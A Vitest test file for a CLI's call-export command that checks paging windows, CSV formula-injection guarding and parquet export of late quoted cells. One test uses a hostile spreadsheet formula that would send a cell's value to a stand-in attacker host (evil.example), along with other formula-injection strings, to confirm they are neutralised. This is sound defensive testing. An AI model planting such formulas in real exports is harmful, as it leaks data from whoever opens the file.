// `tollgate export calls` pages through /api/export/calls: every page must answer the same window.
import { mkdtempSync, readFileSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, expect, it } from "vitest";
import { appClient } from "../src/cli/client.js";
import { exportCalls } from "../src/cli/export.js";
import { dataFileCheck } from "./export-files.js";
import { openTestRuntime, postEvents, validRecord } from "./helpers.js";

let rt: Awaited<ReturnType<typeof openTestRuntime>>;
const dir = mkdtempSync(join(tmpdir(), "tollgate-export-pages-"));
beforeAll(async () => {
  rt = await openTestRuntime();
});
afterAll(async () => {
  await rt?.close();
  rmSync(dir, { recursive: true, force: true });
});

it("a relative window (30d to now) is the first page's: calls arriving during the export stay out", async () => {
  const ts = Date.now() - 60_000;
  await postEvents(
    rt.app,
    rt.rootToken,
    [0, 1, 2, 3, 4].map((i) => validRecord({ ts_start: ts + i })),
  );
  const client = appClient(rt);
  let pages = 0;
  const racing = {
    async request(method: string, path: string, body?: unknown) {
      const res = await client.request(method, path, body);
      // A call made (and stored) while the export runs, after its first page was read.
      if (pages++ === 0) {
        await new Promise((r) => setTimeout(r, 5));
        await postEvents(rt.app, rt.rootToken, [validRecord({ ts_start: Date.now() })]);
        await new Promise((r) => setTimeout(r, 5));
      }
      return res;
    },
  };
  const out = join(dir, "calls.json");
  const opts = { out, format: "json", progress: false, workspace: "default", from: "30d", to: "now" };
  const res = await exportCalls(racing, opts, "json", 2);
  const file = JSON.parse(readFileSync(out, "utf8"));
  const end = Date.parse(file.meta.window.to);
  expect(file.calls.every((c: { ts_start: number }) => c.ts_start < end)).toBe(true);
  expect(res.rows).toBe(5);
  expect(file.meta.rows).toBe(5);
});

it("a CSV cell that would start a spreadsheet formula is written as text; numbers and --no-formula-guard stay exact", async () => {
  const hostile = '=HYPERLINK("http://evil.example/?"&A1,"open")';
  await postEvents(rt.app, rt.rootToken, [
    validRecord({ user_id: hostile, customer_id: "@SUM(A1:A9)", feature: "-2+3", prompt_version: "-1.5" }),
  ]);
  const client = appClient(rt);
  const cellsOf = async (guard: boolean) => {
    const out = join(dir, `guard-${guard}.csv`);
    const opts = { out, format: "csv", progress: false, workspace: "default", formulaGuard: guard };
    await exportCalls(client, opts, "csv");
    const [header, ...lines] = readFileSync(out, "utf8").trim().split("\n");
    const row = lines.find((l) => l.includes("HYPERLINK"))!;
    // The row's cells by column (only the hostile one holds quotes and commas).
    const cells = row.match(/("([^"]|"")*"|[^,]*)(,|$)/g)!.map((c) => c.replace(/,$/, ""));
    const cols = header!.split(",");
    const meta = JSON.parse(readFileSync(`${out}.meta.json`, "utf8"));
    expect(meta).toMatchObject(dataFileCheck(out)); // written page by page, named as the whole file
    return { get: (c: string) => cells[cols.indexOf(c)], guard: meta.formula_guard };
  };
  const guarded = await cellsOf(true);
  expect(guarded.guard).toBe(true);
  expect(guarded.get("user_id")).toBe(`"'${hostile.replaceAll('"', '""')}"`);
  expect(guarded.get("customer_id")).toBe("'@SUM(A1:A9)");
  expect(guarded.get("feature")).toBe("'-2+3");
  expect(guarded.get("prompt_version")).toBe("-1.5"); // a number reads as one
  expect(guarded.get("cost_nanousd")).toMatch(/^\d+$/);
  const raw = await cellsOf(false);
  expect(raw.guard).toBe(false);
  expect(raw.get("user_id")).toBe(`"${hostile.replaceAll('"', '""')}"`);
  expect(raw.get("feature")).toBe("-2+3");
});

it("a parquet export reads a quoted cell past the first 20,480 rows: the CSV's dialect is given, not sniffed from a sample", async () => {
  // DuckDB's CSV sniffer reads 20,480 rows: none quoted there, it reads the file without quotes, and a
  // later cell holding a comma (metadata of two keys, say) had too many columns: the export failed.
  const ts = Date.now() - 2 * 86_400_000;
  const plain = Array.from({ length: 20_500 }, (_, i) =>
    validRecord({ ts_start: ts + i, feature: "sniffed" }),
  );
  for (let i = 0; i < plain.length; i += 10_000)
    await postEvents(rt.app, rt.rootToken, plain.slice(i, i + 10_000));
  await postEvents(rt.app, rt.rootToken, [
    validRecord({
      ts_start: ts + 30_000,
      feature: "sniffed",
      user_id: 'a, "b"\nc',
      metadata: { k: "1", l: "2" },
    }),
  ]);
  const out = join(dir, "sniffed.parquet");
  const opts = {
    out,
    format: "parquet",
    progress: false,
    workspace: "default",
    feature: "sniffed",
    from: "30d",
  };
  const res = await exportCalls(appClient(rt), opts, "parquet");
  expect(res.rows).toBe(20_501);
  const { DuckDBInstance } = await import("@duckdb/node-api");
  const db = await DuckDBInstance.create(":memory:");
  const conn = await db.connect();
  const rows = (
    await conn.runAndReadAll(
      `SELECT count(*)::INT, max(user_id), max(metadata) FILTER (user_id IS NOT NULL) FROM '${out}'`,
    )
  ).getRowsJS();
  conn.closeSync();
  expect(rows).toEqual([[20_501, 'a, "b"\nc', '{"k":"1","l":"2"}']]);
});
